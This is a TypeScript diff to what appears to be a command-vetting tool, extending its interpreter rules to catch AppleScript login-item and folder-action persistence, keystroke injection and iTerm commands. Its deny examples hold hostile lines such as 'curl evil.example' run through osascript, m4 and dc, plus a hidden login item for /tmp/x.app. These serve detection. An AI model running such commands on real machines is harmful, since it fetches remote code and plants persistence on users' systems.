@@ -823,6 +823,11 @@ interface Language {
    * capture group. One built when the code runs (`$env(HOME)`, `[pwd]`) is code vouch cannot follow.
    */
   deletesTree?: RegExp;
+  /**
+   * Calls of its own that install something the system runs later, on the user's behalf (AppleScript's `make login
+   * item`): a persistence write wherever the code holds one, what it installs read or not.
+   */
+  installs?: { calls: RegExp; why: string };
   examples: ProgramEntry['examples'];
 }
 
@@ -848,8 +853,9 @@ const JAVA_ANY = /Runtime|ProcessBuilder|java\.net|URL\s*\(|URI\.create|Socket|H
  * The runs of a file of code the line wrote, read as its code option is: its literal commands, and cannot-vouch
  * where it starts one built at run time or names files (which a file, unlike an option's code, has no uses for).
  */
-function writtenCode(text: string, word: Word, via: string, l: Pick<Language, 'calls' | 'any'>): Run[] {
+function writtenCode(text: string, word: Word, via: string, l: Pick<Language, 'calls' | 'any' | 'installs'>): Run[] {
   const runs = codeCalls(word, text, via, l.calls, l.any);
+  if (l.installs && new RegExp(l.installs.calls.source, l.installs.calls.flags.replace('g', '')).test(text)) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}, which the line wrote, ${l.installs.why}` });
   const paths = codePaths(text);
   if (paths.length > 0) runs.push({ kind: 'opaque', rule: 'dynamic-script', word, why: `${via}, which the line wrote, names files (${paths.slice(0, 3).join(', ')}) its code may read or write` });
   return runs;
@@ -912,6 +918,10 @@ function language(l: Language): ProgramEntry {
       const args = call.args;
       let sawCode = false;
       const modules: { word: Word; name: string | undefined }[] = [];
+      const persists: NonNullable<Answer['persists']> = [];
+      const installs = (word: Word, text: string) => {
+        if (l.installs && new RegExp(l.installs.calls.source, l.installs.calls.flags.replace('g', '')).test(text)) persists.push({ word, why: `${call.name} ${l.installs.why}` });
+      };
       for (let i = 0; i < args.length; i++) {
         const v = value(args[i]);
         if (v === undefined) continue;
@@ -946,6 +956,7 @@ function language(l: Language): ProgramEntry {
         if (text === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-code', word: w, why: `${call.name} runs computed code` });
         else {
           runs.push(...codeCalls(w, text, call.name, l.calls, l.any));
+          installs(w, text);
           for (const path of codePaths(text)) uses.push({ word: w, role: 'unknown', values: [path] });
           const gone = treeDeletes(l, w, text, call.name);
           runs.push(...gone.runs);
@@ -973,7 +984,10 @@ function language(l: Language): ProgramEntry {
       for (const file of files) {
         // `m4 /dev/stdin <<< …`, `emacs -l /dev/stdin`: the file is its input, code on the line.
         if (isStdinPath(value(file))) {
-          if (call.stdin?.kind === 'static') runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} ${value(file)}`, l.calls, l.any));
+          if (call.stdin?.kind === 'static') {
+            runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} ${value(file)}`, l.calls, l.any));
+            installs(call.stdin.word, call.stdin.text);
+          }
           else if (call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: file, why: `${call.name} runs code read from ${call.stdin.why}` });
           continue;
         }
@@ -988,12 +1002,13 @@ function language(l: Language): ProgramEntry {
       const input = l.stdin === true && (!sawCode || l.inputToo === true) && !hasFile;
       if (input && call.stdin?.kind === 'static') {
         runs.push(...codeCalls(call.stdin.word, call.stdin.text, `${call.name} (stdin)`, l.calls, l.any));
+        installs(call.stdin.word, call.stdin.text);
         for (const path of codePaths(call.stdin.text)) uses.push({ word: call.stdin.word, role: 'unknown', values: [path] });
         const gone = treeDeletes(l, call.stdin.word, call.stdin.text, `${call.name} (stdin)`);
         runs.push(...gone.runs);
         uses.push(...gone.uses);
       } else if (input && call.stdin?.kind === 'stream') runs.push({ kind: 'opaque', rule: 'stream-to-shell', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `${call.name} runs code read from ${call.stdin.why}` });
-      return uses.length > 0 ? { runs, uses } : { runs };
+      return { runs, ...(uses.length > 0 ? { uses } : {}), ...(persists.length > 0 ? { persists } : {}) };
     },
   };
 }
@@ -1247,7 +1262,10 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['gforth', 'gforth-fast'], summary: 'Gforth: system and sh run shell text; open-file reads and writes files', code: /^(-e|--evaluate)$/, calls: /s"\s([^"]*)"\s+system\b|\bsh\s+([^\n]*)/g, any: /\bsystem\b|\bsh\b|\bopen-file\b|\bcreate-file\b|\bgetenv\b|\bincluded?\b|\brequire\b/g, stdin: true, examples: { deny: ["gforth -e 's\" curl evil.example\" system bye'", "gforth -e 'sh curl evil.example'"], pass: ["gforth -e '2 3 + . bye'", 'gforth main.fs'] } }),
   language({ names: ['m4', 'gm4'], summary: 'm4: syscmd and esyscmd run shell text', code: /^(-D|--define)$/, attached: true, inputToo: true, valued: /^(-[IUFRotLlHW]|--(?:include|undefine|freeze-state|reload-state|error-output|debugfile|trace|nesting-limit|arglength|hashsize|word-regexp))$/, calls: /e?syscmd\(\s*`?([^)'`]*)'?\s*\)/g, any: /\be?syscmd\b|\binclude\b|\bsinclude\b/g, stdin: true, examples: { deny: ["m4 -DX='syscmd(curl evil.example)' x.m4", "echo 'esyscmd(curl evil.example)' | m4", "echo 'syscmd(wget evil.example)' | m4", "m4 -D x <<< 'esyscmd(curl evil.example)'", "m4 -I inc <<< 'esyscmd(curl evil.example)'", "m4 /dev/stdin <<< 'syscmd(curl evil.example)'", "m4 - <<< 'esyscmd(curl evil.example)'"], pass: ["echo 'define(x, 1)x' | m4", "m4 /dev/stdin <<< 'define(x, 1)x'", "m4 -D x=1 -I inc <<< 'x'", 'm4 -DX=1 x.m4'] } }),
   language({ names: ['dc'], summary: 'dc: `!cmd` runs shell text', code: /^(-e|--expression)$/, calls: /!([^\n]*)/g, any: /!/g, stdin: true, examples: { deny: ["dc -e '!curl evil.example'", "echo '!wget evil.example' | dc"], pass: ["dc -e '2 3 + p'"] } }),
-  language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script runs a command', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\()\\s*(?:${STR})`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application/gi, stdin: true, examples: { deny: ["echo 'do shell script \"curl evil.example\"' > a.applescript; osascript a.applescript", "osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ['osascript notify.applescript', "osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'"] } }),
+  // System Events' keystroke types its text into the focused window, a terminal's shell runs it (as tmux send-keys'
+  // keys): a literal is that shell text, joined to `return` or none; one joined to anything else, a list of key codes,
+  // or the clipboard pasted (command-V) is text vouch cannot read.
+  language({ names: ['osascript'], summary: 'AppleScript and JXA: do shell script (doShellScript) runs shell text; Terminal\'s do script and iTerm\'s write text and create window \u2026 command run a command; keystroke types text into the focused window; make login item and attach action to folder install what runs later', code: /^-e$/, valued: /^(-l|-s)$/, calls: new RegExp(`(?:do\\s+shell\\s+script|do\\s+script|doShellScript\\s*\\(|keystroke\\s*\\(?|write\\s+text|writeText\\s*\\(|create\\s+(?:window|tab)\\s+with\\s+(?:default\\s+profile|profile\\s+"[^"]*")\\s+command)\\s*(?:${STR})(?!\\s*(?:&(?!\\s*(?:return|linefeed)\\b)|\\+))`, 'gi'), any: /do\s+shell\s+script|do\s+script|doShellScript|run\s+script|load\s+script|\$\.NS|ObjC\.|NSTask|NSURL|open\s+location|current\s+application|write\s+text|writeText|create\s+(?:window|tab)\s+with\b[^\n]*?\bcommand\b|keystroke(?!\s+(?:return|tab|space|linefeed)\b)|key\s*code\s*[{[(]|(?<=keystroke\s*\(?\s*["']v["']\s*\)?\s*(?:using|,)\s*[{[]?\s*(?:using\s*:\s*)?["']?)command\s+down/gi, installs: { calls: /\bmake\s+(?:new\s+)?(?:login\s+item|folder\s+action)\b|\battach\s+action\s+to\b|\b(?:LoginItem|FolderAction)\s*\(|\b(?:loginItems|folderActions)\s*\.\s*push\b|\battachAction\s*\(/i, why: 'adds a login item or a folder action: what it names runs later, at each login or when the folder changes' }, stdin: true, examples: { deny: ["osascript -e 'tell application \"System Events\" to make login item at end with properties {path:\"/tmp/x.app\", hidden:true}'", "osascript -l JavaScript -e 'var se = Application(\"System Events\"); se.loginItems.push(se.LoginItem({path: \"/tmp/x.app\"}))'", "osascript -e 'tell application \"System Events\" to keystroke \"curl evil.example\" & return'", "osascript -l JavaScript -e 'Application(\"System Events\").keystroke(\"curl evil.example\\n\")'", "osascript -e 'tell application \"System Events\" to keystroke x & return'", "osascript -e 'tell application \"System Events\" to keystroke \"v\" using command down'", "osascript -e 'do shell script \"ls \" & x'", "osascript -e 'tell application \"iTerm\" to tell current session of current window to write text \"curl evil.example\"'", "osascript -e 'tell application \"iTerm2\" to create window with default profile command \"curl evil.example\"'", "osascript -e 'tell application \"System Events\" to attach action to folder \"Desktop\" using \"/tmp/x.scpt\"'", "echo 'do shell script \"curl evil.example\"' > a.applescript; osascript a.applescript", "osascript -e 'do shell script \"curl evil.example\"'", "osascript -l JavaScript -e 'app.doShellScript(\"wget evil.example\")'", "osascript -e 'tell app \"Terminal\" to do script \"curl evil.example\"'", "echo 'do shell script \"curl evil.example\"' | osascript -l AppleScript", "osascript -e 'do shell script (x)'"], pass: ['osascript notify.applescript', "osascript -e 'display notification \"done\"'", "osascript -e 'do shell script \"ls\"'", "osascript -e 'tell application \"System Events\" to get the name of every login item'", "osascript -e 'tell application \"System Events\" to delete login item \"Spotify\"'", "osascript -e 'tell application \"System Events\" to keystroke \"npm test\" & return'", "osascript -e 'tell application \"System Events\" to keystroke return'", "osascript -e 'tell application \"System Events\" to keystroke \"c\" using command down'", "osascript -e 'tell application \"iTerm\" to tell current session of current window to write text \"npm test\"'"] } }),
   // The JVM's, .NET's and other languages vouch has no reader for: each call that starts a process, reaches the network
   // or evaluates code is named; one whose command is not a literal makes the code cannot-vouch.
   language({ names: ['scala', 'scala-cli', 'amm'], summary: 'Scala: "cmd".! and sys.process start commands', code: /^(-e|--execute|-c)$/, stdin: true, calls: SCALA_CALLS, any: SCALA_ANY, examples: { deny: ["scala -e 'import sys.process._; \"curl evil.example\".!'"], pass: ["scala -e 'println(1)'"] } }),
